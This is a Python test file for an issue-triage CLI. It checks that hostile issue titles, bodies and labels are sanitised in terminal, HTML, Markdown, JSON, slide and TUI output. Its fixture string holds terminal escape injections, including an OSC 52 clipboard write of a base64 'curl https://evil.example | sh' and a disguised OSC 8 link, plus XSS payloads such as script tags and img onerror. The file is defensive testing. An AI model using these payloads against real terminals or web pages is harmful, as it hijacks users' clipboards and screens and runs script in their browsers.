"""Hostile tracker text (issue 17, item 1): titles, bodies and labels full of escape sequences,
rich markup and HTML, pulled from the sandbox over real HTTP, never reach a terminal raw, never
end a command in a traceback, never render as HTML; JSON keeps them exactly."""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from conftest import BASE, lexical_demo
from conftest import DEMO_ENV as ENV
from triagewise import safe
from triagewise.cli import main
from triagewise.config import load_config
from triagewise.connectors.github.connector import MARKDOWN
from triagewise.connectors.jira.connector import WIKI
from triagewise.sandbox import GitHubApp, Sandbox, build_sandbox
from triagewise.store import Store
from triagewise.sync.plan import comment_body
from triagewise.sync.run import make_plan

HOSTILE = (
    "\x1b]0;pwned\x07"  # window title
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07"  # OSC 52: curl … | sh on the clipboard
    "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\"  # OSC 8: a disguised hyperlink
    "\x9b31m\x1bP+q544e\x1b\\\x08\x7f\r"  # 8-bit CSI, DCS, backspace, DEL, carriage return
    " <script>alert(1)</script><img src=x onerror=alert(2)> [/bold] [red]x \u202eevil"
)
MARKUP_LABEL = "triage/[/bold]"  # a label a Jira user can set

# What a terminal would act on: C0 but newline and tab, DEL, C1, the bidi overrides.
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[tuple[Sandbox, GitHubApp, Path]]:
    """The demo sandbox with a hostile title and body on every GitHub issue, and a markup
    label on some; pulled once."""
    server, app = build_sandbox(base=BASE)
    with server:
        repo = app.repos["tandem/app"]
        for n, item in repo.items.items():
            item.title = f"{item.title} {HOSTILE}"
            item.body = f"{item.body or ''}\n{HOSTILE}\n"
            if n % 5 == 0:
                item.labels = [*item.labels, MARKUP_LABEL, "<img src=x onerror=alert(3)>"]
        path = tmp_path / "triagewise.toml"
        path.write_text(lexical_demo(server.url))
        assert cli(path, "pull").exit_code == 0
        yield server, app, path


def cli(config: Path, *args: str, stdin: str | None = None) -> Result:
    return CliRunner().invoke(
        main, ["--config", str(config), *args], env=ENV, input=stdin, catch_exceptions=False
    )


def assert_clean(text: str) -> None:
    found = RAW.search(text)
    assert found is None, f"raw {found.group()!r} in {text[max(0, found.start() - 60) :][:120]!r}"


def deck_text(path: Path) -> str:
    from pptx import Presentation

    return "\n".join(
        shape.text_frame.text
        for slide in Presentation(str(path)).slides
        for shape in slide.shapes
        if shape.has_text_frame
    )


def test_the_safe_functions() -> None:
    cleaned = safe.terminal(HOSTILE)
    assert_clean(cleaned)
    assert "evil.example" not in cleaned and "Y3Vyb" not in cleaned and "pwned" not in cleaned
    assert "docs" in cleaned and "<script>" in cleaned  # the readable text stays
    assert "\n" not in safe.terminal("a\nb", one_line=True)
    md = safe.markdown(HOSTILE)
    assert "<script" not in md and "<img" not in md and "&lt;script&gt;" in md
    # a Markdown image or link in a title stays text: no pixel loads when roadmap.md is viewed
    pixel = safe.markdown("![px](https://evil.example/p.png) and [docs](https://evil.example)")
    assert "](" not in pixel.replace("\\](", "") and "![" not in pixel
    assert "{" not in safe.wiki("{html}x{html}").replace("\\{", "")
    doc = safe.json_dumps({"t": HOSTILE}, html=True)
    assert_clean(doc)
    assert "<" not in doc and json.loads(doc) == {"t": HOSTILE}


@pytest.mark.slow
def test_hostile_text_in_every_output(hostile: tuple[Sandbox, GitHubApp, Path]) -> None:
    _, _, path = hostile
    explained = cli(path, "explain", "tandem/app#1")
    assert explained.exit_code == 0 and "tandem/app#1" in explained.stdout
    assert_clean(explained.output)
    md = cli(path, "report")
    assert md.exit_code == 0 and "# Roadmap" in md.stdout
    assert_clean(md.output)
    assert "<script" not in md.stdout and "<img" not in md.stdout
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md.stdout
    page = path.parent / "report.html"
    assert cli(path, "report", "--format", "html", "-o", str(page)).exit_code == 0
    text = page.read_text()
    assert_clean(text)
    assert "<script>alert(1)" not in text and "<img src=x" not in text
    report = cli(path, "report", "--json")
    assert_clean(report.stdout)
    titles = {r["title"] for r in json.loads(report.stdout)["issues"]}
    assert any(t.endswith(HOSTILE) for t in titles)  # JSON keeps the text exactly
    plan = cli(path, "plan")  # a markup label once ended this in a MarkupError traceback
    assert plan.exit_code == 0, plan.output
    assert_clean(plan.output)
    digest = cli(path, "report", "--format", "digest")
    assert digest.exit_code == 0 and digest.stdout.startswith("# Roadmap digest")
    assert_clean(digest.output)
    assert "<script" not in digest.stdout and "&lt;script&gt;" in digest.stdout
    assert "evil.example" not in digest.stdout  # an OSC 8 link's target is dropped whole
    deck = path.parent / "roadmap.pptx"
    assert cli(path, "report", "--format", "pptx", "-o", str(deck)).exit_code == 0
    slides = deck_text(deck)
    assert "docs" in slides and "evil.example" not in slides and "pwned" not in slides
    assert_clean(slides)
    body = cli(path, "triage", "--plain", stdin="more\nskip\n" * 40 + "quit\n")  # whole bodies
    assert body.exit_code == 0 and "docs" in body.stdout
    assert "evil.example" not in body.stdout
    assert_clean(body.output)
    queue = cli(path, "triage", "--plain", stdin="skip\n" * 5 + "quit\n")
    assert queue.exit_code == 0 and HOSTILE[-4:] not in queue.stdout
    assert "tandem/app#" in queue.stdout or "PLAT-" in queue.stdout
    assert_clean(queue.output)
    synced = cli(path, "sync")
    assert synced.exit_code == 0, synced.output
    assert_clean(synced.output)
    assert_clean(cli(path, "status").output)


@pytest.mark.slow
def test_hostile_text_in_the_textual_session(hostile: tuple[Sandbox, GitHubApp, Path]) -> None:
    from textual.widgets import Static

    from triagewise.session import Session, build_queue
    from triagewise.session.tui import TriageApp

    _, _, path = hostile
    config = load_config(path)
    seen: list[str] = []
    with Store.open(path.parent / ".triagewise" / "triagewise.db") as store:
        now = datetime.now(UTC)
        assessments = make_plan(store, config, now).assessments
        queue = build_queue(assessments, store.decisions(), now, None)
        queue = [i for i in queue if i.assessment.ref.startswith("tandem/app#")]
        assert queue
        session = Session(store, config, queue, assessments, now)

        async def drive() -> None:
            app = TriageApp(session)
            async with app.run_test() as pilot:
                for _ in range(3):
                    seen.append(str(app.query_one("#card", Static).render()))
                    await pilot.press("s")
                await pilot.press("q")

        asyncio.run(drive())
    assert any("<script>" in s for s in seen)  # the hostile title is on the card, as text
    for shown in seen:
        assert_clean(shown)


def test_explanation_comments_escape_tracker_text() -> None:
    from dataclasses import replace

    from conftest import make_issue, rules_config
    from triagewise.rules.triage import assess

    config = rules_config()
    issue = make_issue(1, title=HOSTILE, body=HOSTILE)
    a = assess([issue], config, datetime(2026, 11, 2, tzinfo=UTC))[0]
    a = replace(a, reasons=(f"Nearest: {HOSTILE}", f"Person: {HOSTILE}"))
    md = comment_body(a, config.writeback, MARKDOWN)
    assert "<script" not in md and "<img" not in md and "&lt;script&gt;" in md
    # a Markdown image or link in a title stays text: no pixel loads when roadmap.md is viewed
    pixel = safe.markdown("![px](https://evil.example/p.png) and [docs](https://evil.example)")
    assert "](" not in pixel.replace("\\](", "") and "![" not in pixel
    assert_clean(md.replace("\n", ""))
    wiki = comment_body(a, config.writeback, WIKI)
    assert "[/bold]" not in wiki and "\\[/bold\\]" in wiki
    assert_clean(wiki.replace("\n", ""))


def test_markup_in_a_label_is_text_in_the_plan_table(capsys: pytest.CaptureFixture[str]) -> None:
    from triagewise.cli.render import plan_table
    from triagewise.sync.plan import Conflict, LabelChange, Plan

    change = LabelChange("PLAT-1", "platform", ("triage/[/bold]",), (f"x{HOSTILE}",))
    conflict = Conflict("PLAT-2", "platform", ("triage/now",), ("triage/[/red]",), None)
    plan_table(Plan((change,), (conflict,)))  # a MarkupError traceback before
    shown = capsys.readouterr().out
    assert "triage/[/bold]" in shown and "triage/[/red]" in shown
    assert_clean(shown)
